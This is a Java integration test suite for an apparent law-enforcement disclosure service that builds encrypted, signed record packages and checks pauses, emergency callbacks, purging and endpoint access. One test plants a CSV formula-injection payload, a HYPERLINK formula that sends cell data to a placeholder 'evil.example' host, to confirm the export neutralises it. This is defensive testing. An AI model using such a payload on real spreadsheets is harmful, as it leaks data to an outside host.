package org.custodian.disclosure;

import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import net.lingala.zip4j.ZipFile;
import net.lingala.zip4j.model.FileHeader;
import org.custodian.support.Api;
import org.custodian.support.IntegrationTest;
import org.custodian.support.Policies;
import org.custodian.support.World;
import org.custodian.support.World.Agency;
import org.custodian.support.World.Person;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Productions end to end over HTTP on PostgreSQL: approval → job → signed, encrypted
 * package with exactly the approved categories and period → the officer's download and
 * passphrase → verify-package; the production pause; the emergency callback; purge.
 */
class DisclosureIntegrationTests extends IntegrationTest {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

	@Autowired
	VerifyPackageCommand verifyPackage;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	ProductionService productions;

	@TempDir
	Path temp;

	@Test
	void producesExactlyTheApprovedCategoriesAndPeriodInAPackageThatVerifies() throws Exception {
		Agency agency = this.world.agency("US");
		Person officer = this.world.officer(agency);
		String id = this.world.submit(officer,
				Map.of("type", "LEGAL_PROCESS", "instrument", "SEARCH_WARRANT", "legalBasis", "Warrant 20-123",
						"targets", List.of(Map.of("kind", "USERNAME", "value", " Wire.Fraudster ")), "categories",
						List.of("BASIC_SUBSCRIBER", "NON_CONTENT", "CONTENT"), "from", "2020-01-01", "to", "2020-03-31",
						"offence", "Wire fraud"));
		decide(id, "DISCLOSE_PARTIAL", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
		awaitStatus(officer, id, "PRODUCED");

		Api.Response passphrase = this.api.as(officer.token())
			.post("/api/v1/requests/" + id + "/production/passphrase", Map.of());
		assertThat(passphrase.status()).as(passphrase.toString()).isEqualTo(200);
		String secret = passphrase.json().path("passphrase").asString();
		assertThat(this.api.as(officer.token())
			.post("/api/v1/requests/" + id + "/production/passphrase", Map.of())
			.status()).as("shown once").isEqualTo(409);

		Api.Response download = this.api.as(officer.token()).get("/api/v1/requests/" + id + "/production");
		assertThat(download.status()).as(download.toString()).isEqualTo(200);
		assertThat(download.contentType()).isEqualTo("application/zip");
		Path zip = this.temp.resolve("package.zip");
		Files.write(zip, download.bytes());

		List<String> names = new ArrayList<>();
		try (ZipFile file = new ZipFile(zip.toFile(), secret.toCharArray())) {
			for (FileHeader header : file.getFileHeaders()) {
				assertThat(header.isEncrypted()).as(header.getFileName()).isTrue();
				names.add(header.getFileName());
			}
		}
		assertThat(names).containsExactly("targets/01/part-01.json", "targets/01/part-01.csv",
				"targets/01/part-02.json", "targets/01/part-02.csv", "README.txt", "manifest.json", "manifest.sig",
				"records-certificate.pdf");
		assertThat(new String(Files.readAllBytes(zip), StandardCharsets.ISO_8859_1)).as("names reveal no account")
			.doesNotContain("sample-us-001", "NON_CONTENT", "BASIC_SUBSCRIBER");
		List<JsonNode> nonContent = new ArrayList<>();
		Api.JSON.readTree(entry(zip, secret, fileOf(zip, secret, "NON_CONTENT", ".json")))
			.path("records")
			.forEach(nonContent::add);
		assertThat(nonContent).isNotEmpty();
		assertThat(nonContent).allSatisfy((record) -> {
			Instant at = Instant.parse(record.path("at").asString());
			assertThat(at).isBetween(Instant.parse("2020-01-01T00:00:00Z"), Instant.parse("2020-03-31T23:59:59Z"));
		});
		assertThat(nonContent).extracting((record) -> record.path("kind").asString())
			.contains("login", "message-header");

		Path passphraseFile = this.temp.resolve("passphrase.txt");
		Files.writeString(passphraseFile, secret);
		assertThat(verify(zip, passphraseFile)).startsWith("0 Package VALID");

		verifiesOfflineWithThePublishedKeys(zip, passphraseFile);

		byte[] bytes = Files.readAllBytes(zip);
		bytes[bytes.length / 3] ^= 0x01;
		Path altered = this.temp.resolve("altered.zip");
		Files.write(altered, bytes);
		assertThat(verify(altered, passphraseFile)).startsWith("1 Package REJECTED");

		Person auditor = this.world.staff("AUDITOR");
		List<String> actions = this.api.as(auditor.token())
			.get("/api/v1/cases/" + id + "/timeline")
			.json()
			.findValuesAsString("action");
		assertThat(actions).containsSubsequence("request.approved", "production.queued", "request.production-started",
				"request.produced", "production.built", "production.passphrase-shown", "production.downloaded");
		JsonNode production = this.api.as(auditor.token()).get("/api/v1/cases/" + id + "/production").json();
		assertThat(production.path("status").asString()).isEqualTo("PRODUCED");
		assertThat(production.path("downloads").asInt()).isEqualTo(1);
	}

	@Test
	void aFormulaInAUsersRecordsReachesTheAgencysSpreadsheetAsText() throws Exception {
		String account = anAccountWithAFormula();
		Package produced = produce(account);
		String csv = new String(entry(produced.zip(), produced.passphrase(),
				fileOf(produced.zip(), produced.passphrase(), "NON_CONTENT", ".csv")), StandardCharsets.UTF_8);
		assertThat(csv).contains(",\"'" + FORMULA.replace("\"", "\"\"") + "\",");
		assertThat(csv.lines()).noneMatch((line) -> line.contains(",=") || line.startsWith("="));
		String json = new String(entry(produced.zip(), produced.passphrase(),
				fileOf(produced.zip(), produced.passphrase(), "NON_CONTENT", ".json")), StandardCharsets.UTF_8);
		assertThat(Api.JSON.readTree(json).path("records").findValuesAsString("userAgent")).as("JSON keeps it exact")
			.contains(FORMULA);
		String readme = new String(entry(produced.zip(), produced.passphrase(), "README.txt"), StandardCharsets.UTF_8);
		assertThat(readme).contains("prefixed with a single quote");
	}

	@Test
	void sevenZipOpensAProductionAndFindsTheFilesOfTheSignedManifest() throws Exception {
		boolean available = new File("/usr/bin/7z").canExecute();
		if (!"true".equals(System.getenv("CI"))) {
			Assumptions.assumeTrue(available, "7z is not installed (apt-get install p7zip-full): skipped");
		}
		Package produced = produce(anAccountWithAFormula());
		Path out = Files.createDirectory(this.temp.resolve("7z"));
		Process sevenZip = new ProcessBuilder("7z", "x", "-p" + produced.passphrase(), "-o" + out,
				produced.zip().toString())
			.redirectErrorStream(true)
			.start();
		String log = new String(sevenZip.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		assertThat(sevenZip.waitFor()).as(log).isZero();
		JsonNode manifest = Api.JSON.readTree(Files.readAllBytes(out.resolve("manifest.json")));
		assertThat(manifest.path("files")).hasSize(4);
		for (JsonNode file : manifest.path("files")) {
			byte[] extracted = Files.readAllBytes(out.resolve(file.path("path").asString()));
			assertThat(PackageBuilder.sha256(extracted)).as(file.path("path").asString())
				.isEqualTo(file.path("sha256").asString());
			assertThat(extracted).isEqualTo(entry(produced.zip(), produced.passphrase(), file.path("path").asString()));
		}
		assertThat(out.resolve("records-certificate.pdf")).isNotEmptyFile();
	}

	@Test
	void aProductionPauseBlocksReleaseAndDownload() {
		Agency agency = this.world.agency("NZ");
		Person officer = this.world.officer(agency);
		String produced = this.world.submit(officer, courtOrder("harbour.reporter"));
		decide(produced, "DISCLOSE", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
		awaitStatus(officer, produced, "PRODUCED");
		String pending = this.world.submit(officer, courtOrder("lantau.hiker"));
		proposeOnly(pending);
		Policies policies = new Policies(this.api, this.world);
		String pauseId = policies
			.enact(Policies.pause("NZ", "FROM_AUTHORITIES", List.of("PRODUCTION"), "ALL", null, null))
			.json()
			.path("id")
			.asString();
		try {
			Api.Response download = this.api.as(officer.token()).get("/api/v1/requests/" + produced + "/production");
			assertThat(download.status()).as(download.toString()).isEqualTo(409);
			assertThat(download.text()).contains("production is paused");
			assertThat(this.api.as(officer.token())
				.post("/api/v1/requests/" + produced + "/production/passphrase", Map.of())
				.status()).isEqualTo(409);

			approveOnly(pending);
			assertThat(this.world.officerView(officer, pending).path("status").asString()).isEqualTo("ON_HOLD");
			assertThat(this.api.as(officer.token()).get("/api/v1/requests/" + pending + "/production").status())
				.isEqualTo(409);
		}
		finally {
			assertThat(policies.lift(pauseId, "Test over").status()).isEqualTo(200);
		}
	}

	@Test
	void anEmergencyIsProducedOnlyAfterACallbackToTheRegisteredNumber() {
		Agency agency = this.world.agency("US");
		Person officer = this.world.officer(agency);
		String id = this.world.submit(officer,
				Map.of("type", "EMERGENCY", "targets", List.of(Map.of("kind", "EMAIL", "value", "DEV@mail.de.example")),
						"categories", List.of("BASIC_SUBSCRIBER"), "emergency",
						Map.of("threat", "Threat to life posted", "supervisorName", "Sgt. Caller", "supervisorPhone",
								"+1 202 555 0177")));
		decide(id, "DISCLOSE", List.of("BASIC_SUBSCRIBER"));
		Person reviewer = this.world.staff("REVIEWER");
		JsonNode waiting = this.api.as(reviewer.token()).get("/api/v1/cases/" + id + "/production").json();
		assertThat(waiting.path("status").asString()).isEqualTo("AWAITING_CALLBACK");
		assertThat(World.texts(this.api.as(reviewer.token()).get("/api/v1/cases/" + id).json().path("flags")))
			.contains("PRODUCTION_AWAITING_CALLBACK");
		assertThat(this.world.officerView(officer, id).path("status").asString()).isEqualTo("APPROVED");

		Api.Response requestNumber = this.api.as(reviewer.token())
			.post("/api/v1/cases/" + id + "/emergency-verification",
					Map.of("calledNumber", "+1 202 555 0177", "confirmed", true, "notes", "Called the sergeant"));
		assertThat(requestNumber.status()).as(requestNumber.toString()).isEqualTo(400);
		assertThat(requestNumber.errorFields()).containsExactly("calledNumber");
		assertThat(requestNumber.text()).contains("the number given in the request");

		Api.Response unconfirmed = this.api.as(reviewer.token())
			.post("/api/v1/cases/" + id + "/emergency-verification",
					Map.of("calledNumber", "+852 2860 2000", "confirmed", false, "notes", "Desk could not confirm"));
		assertThat(unconfirmed.status()).as(unconfirmed.toString()).isEqualTo(201);
		assertThat(this.api.as(reviewer.token())
			.get("/api/v1/cases/" + id + "/production")
			.json()
			.path("status")
			.asString()).isEqualTo("AWAITING_CALLBACK");
		assertThat(unverified(id)).as("the transparency report counts a failed verification").isTrue();

		Api.Response confirmed = this.api.as(reviewer.token())
			.post("/api/v1/cases/" + id + "/emergency-verification",
					Map.of("calledNumber", "0085228602000", "confirmed", true, "notes", "Duty officer confirmed"));
		assertThat(confirmed.status()).as(confirmed.toString()).isEqualTo(201);
		awaitStatus(officer, id, "PRODUCED");
		List<String> actions = this.api.as(reviewer.token())
			.get("/api/v1/cases/" + id + "/timeline")
			.json()
			.findValuesAsString("action");
		assertThat(actions).containsSubsequence("production.awaiting-callback", "emergency.callback-recorded",
				"emergency.callback-recorded", "production.queued", "production.built");

		JsonNode caseFile = this.api.as(reviewer.token()).get("/api/v1/cases/" + id).json();
		assertThat(World.texts(caseFile.path("flags"))).contains("OFFICER_FIRST_REQUEST", "OFFICER_FIRST_EMERGENCY",
				"EMAIL_DOMAIN_RECENTLY_ADDED");
		String followUp = this.world.submit(officer, courtOrder("berlin.dev"));
		Api.Response linked = this.api.as(officer.token())
			.post("/api/v1/requests/" + followUp + "/emergency-follow-up", Map.of("emergencyRequestId", id));
		assertThat(linked.status()).as(linked.toString()).isEqualTo(200);
		assertThat(this.api.as(officer.token())
			.post("/api/v1/requests/" + id + "/emergency-follow-up", Map.of("emergencyRequestId", id))
			.status()).as("an emergency cannot follow itself up").isEqualTo(409);
		assertThat(World.texts(this.api.as(reviewer.token()).get("/api/v1/cases/" + followUp).json().path("flags")))
			.doesNotContain("OFFICER_FIRST_REQUEST");
	}

	@Test
	void purgesExpiredPackagesOnTheRecord() {
		Agency agency = this.world.agency("US");
		Person officer = this.world.officer(agency);
		String id = this.world.submit(officer, courtOrder("london.trader"));
		decide(id, "DISCLOSE", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
		awaitStatus(officer, id, "PRODUCED");
		assertThat(this.api.as(officer.token()).get("/api/v1/requests/" + id + "/production").status()).isEqualTo(200);
		assertThat(this.productions.purgeExpired(Instant.now().plus(Duration.ofDays(31)))).isGreaterThanOrEqualTo(1);
		Api.Response gone = this.api.as(officer.token()).get("/api/v1/requests/" + id + "/production");
		assertThat(gone.status()).isEqualTo(409);
		assertThat(gone.text()).contains("expired and was purged");
		Person auditor = this.world.staff("AUDITOR");
		assertThat(this.api.as(auditor.token())
			.get("/api/v1/cases/" + id + "/timeline")
			.json()
			.findValuesAsString("action")).contains("production.purged");
	}

	@Test
	void guardsEveryDisclosureEndpoint() {
		Agency agency = this.world.agency("US");
		Person officer = this.world.officer(agency);
		Person stranger = this.world.officer(this.world.agency("US"));
		Person auditor = this.world.staff("AUDITOR");
		Person reviewer = this.world.staff("REVIEWER");
		String id = this.world.submit(officer, courtOrder("berlin.dev"));
		String production = "/api/v1/requests/" + id + "/production";
		String callback = "/api/v1/cases/" + id + "/emergency-verification";
		Map<String, Object> body = Map.of("calledNumber", "+852 2860 2000", "confirmed", true, "notes", "n");

		assertThat(this.api.anonymous().get(production).status()).isEqualTo(401);
		assertThat(this.api.as(reviewer.token()).get(production).status()).isEqualTo(403);
		assertThat(this.api.as(stranger.token()).get(production).status()).isEqualTo(404);
		assertThat(this.api.as(officer.token()).get(production).status()).isEqualTo(409);
		assertThat(this.api.anonymous().post(production + "/passphrase", Map.of()).status()).isEqualTo(401);
		assertThat(this.api.as(reviewer.token()).post(production + "/passphrase", Map.of()).status()).isEqualTo(403);
		assertThat(this.api.as(stranger.token()).post(production + "/passphrase", Map.of()).status()).isEqualTo(404);

		assertThat(this.api.anonymous().post(callback, body).status()).isEqualTo(401);
		assertThat(this.api.as(officer.token()).post(callback, body).status()).isEqualTo(403);
		assertThat(this.api.as(auditor.token()).post(callback, body).status()).isEqualTo(403);
		assertThat(this.api.as(reviewer.token()).post(callback, body).status()).as("not an emergency").isEqualTo(409);

		String staffView = "/api/v1/cases/" + id + "/production";
		assertThat(this.api.anonymous().get(staffView).status()).isEqualTo(401);
		assertThat(this.api.as(officer.token()).get(staffView).status()).isEqualTo(403);
		assertThat(this.api.as(auditor.token()).get(staffView).status()).as("no production yet").isEqualTo(404);

		String followUp = "/api/v1/requests/" + id + "/emergency-follow-up";
		Map<String, Object> emergency = Map.of("emergencyRequestId", id);
		assertThat(this.api.anonymous().post(followUp, emergency).status()).isEqualTo(401);
		assertThat(this.api.as(reviewer.token()).post(followUp, emergency).status()).isEqualTo(403);
		assertThat(this.api.as(stranger.token()).post(followUp, emergency).status()).isEqualTo(404);

		assertThat(this.api.anonymous().get("/.well-known/custodian/production-signing-key").status()).isEqualTo(200);
	}

	private static Map<String, Object> courtOrder(String username) {
		return Map.of("type", "LEGAL_PROCESS", "instrument", "COURT_ORDER", "legalBasis", "Order 2020/7", "targets",
				List.of(Map.of("kind", "USERNAME", "value", username)), "categories",
				List.of("BASIC_SUBSCRIBER", "NON_CONTENT"), "from", "2020-01-01", "to", "2020-06-30", "offence",
				"Fraud");
	}

	private void proposeOnly(String id) {
		propose(id, "DISCLOSE", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
	}

	private void propose(String id, String outcome, List<String> categories) {
		Person reviewer = this.world.staff("REVIEWER");
		Api.Response proposed = this.api.as(reviewer.token())
			.post("/api/v1/cases/" + id + "/decision", World.decision(outcome, categories));
		assertThat(proposed.status()).as(proposed.toString()).isEqualTo(200);
	}

	private void approveOnly(String id) {
		Person approver = this.world.staff("APPROVER");
		Api.Response approved = this.api.as(approver.token())
			.post("/api/v1/cases/" + id + "/approval", Map.of("approve", true, "comment", "Agreed"));
		assertThat(approved.status()).as(approved.toString()).isEqualTo(200);
	}

	private void decide(String id, String outcome, List<String> categories) {
		propose(id, outcome, categories);
		approveOnly(id);
	}

	private void awaitStatus(Person officer, String id, String status) {
		await().atMost(Duration.ofSeconds(60))
			.pollInterval(Duration.ofMillis(300))
			.untilAsserted(
					() -> assertThat(this.world.officerView(officer, id).path("status").asString()).isEqualTo(status));
	}

	/** As an agency would: with the base64 key, and with the JWK Set saved to a file. */
	private void verifiesOfflineWithThePublishedKeys(Path zip, Path passphraseFile) throws Exception {
		JsonNode key = this.api.anonymous().get("/.well-known/custodian/production-signing-key").json();
		assertThat(key.path("algorithm").asString()).isEqualTo("Ed25519");
		assertThat(verify(zip, passphraseFile, "--public-key", key.path("publicKey").asString()))
			.startsWith("0 Package VALID");
		Api.Response jwks = this.api.anonymous().get("/.well-known/custodian/jwks.json");
		assertThat(jwks.json().path("keys").get(0).path("kty").asString()).isEqualTo("OKP");
		assertThat(jwks.json().path("keys").findValuesAsString("kid")).contains(key.path("keyId").asString());
		Path jwksFile = this.temp.resolve("jwks.json");
		Files.write(jwksFile, jwks.bytes());
		assertThat(verify(zip, passphraseFile, "--public-key", jwksFile.toString())).startsWith("0 Package VALID");
	}

	private String verify(Path zip, Path passphraseFile, String... more) {
		List<String> arguments = new ArrayList<>(
				List.of(zip.toString(), "--passphrase-file", passphraseFile.toString()));
		arguments.addAll(List.of(more));
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		int code = this.verifyPackage.run(arguments, new PrintStream(out, true, StandardCharsets.UTF_8));
		return code + " " + out.toString(StandardCharsets.UTF_8);
	}

	/** A user of the sample platform whose user agent is a spreadsheet formula. */
	private String anAccountWithAFormula() {
		String account = "csv-" + UUID.randomUUID().toString().substring(0, 8);
		this.jdbc.sql("INSERT INTO platform_account (id, username, home_jurisdiction) VALUES (?, ?, 'US')")
			.params(account, account)
			.update();
		this.jdbc.sql("""
				INSERT INTO sample_record (account_id, category, kind, occurred_at, fields) VALUES
				  (:a, 'BASIC_SUBSCRIBER', 'profile', '2018-01-01Z', '{"username": "x", "phone": "+15550100"}'),
				  (:a, 'NON_CONTENT', 'login', '2020-02-01Z', jsonb_build_object('ip', '192.0.2.1', 'userAgent', :f))
				""").param("a", account).param("f", FORMULA).update();
		return account;
	}

	/**
	 * An approved and produced request for the account, downloaded with its passphrase.
	 */
	private Package produce(String account) throws Exception {
		Agency agency = this.world.agency("US");
		Person officer = this.world.officer(agency);
		String id = this.world.submit(officer, courtOrder(account));
		decide(id, "DISCLOSE", List.of("BASIC_SUBSCRIBER", "NON_CONTENT"));
		awaitStatus(officer, id, "PRODUCED");
		String secret = this.api.as(officer.token())
			.post("/api/v1/requests/" + id + "/production/passphrase", Map.of())
			.json()
			.path("passphrase")
			.asString();
		Path zip = this.temp.resolve(id + ".zip");
		Files.write(zip, this.api.as(officer.token()).get("/api/v1/requests/" + id + "/production").bytes());
		return new Package(zip, secret);
	}

	private record Package(Path zip, String passphrase) {
	}

	/** The path of the file holding a category, as the manifest maps it. */
	private static String fileOf(Path zip, String passphrase, String category, String extension) throws Exception {
		JsonNode manifest = Api.JSON.readTree(entry(zip, passphrase, "manifest.json"));
		for (JsonNode file : manifest.path("files")) {
			if (category.equals(file.path("category").asString()) && file.path("path").asString().endsWith(extension)) {
				return file.path("path").asString();
			}
		}
		throw new AssertionError("No " + category + extension + " in " + manifest);
	}

	private static byte[] entry(Path zip, String passphrase, String name) throws Exception {
		try (ZipFile file = new ZipFile(zip.toFile(), passphrase.toCharArray());
				InputStream in = file.getInputStream(file.getFileHeader(name))) {
			return in.readAllBytes();
		}
	}

	private boolean unverified(String requestId) {
		return this.jdbc.sql("SELECT emergency_unverified FROM transparency_request WHERE request_id = ?::uuid")
			.param(requestId)
			.query(Boolean.class)
			.single();
	}

}
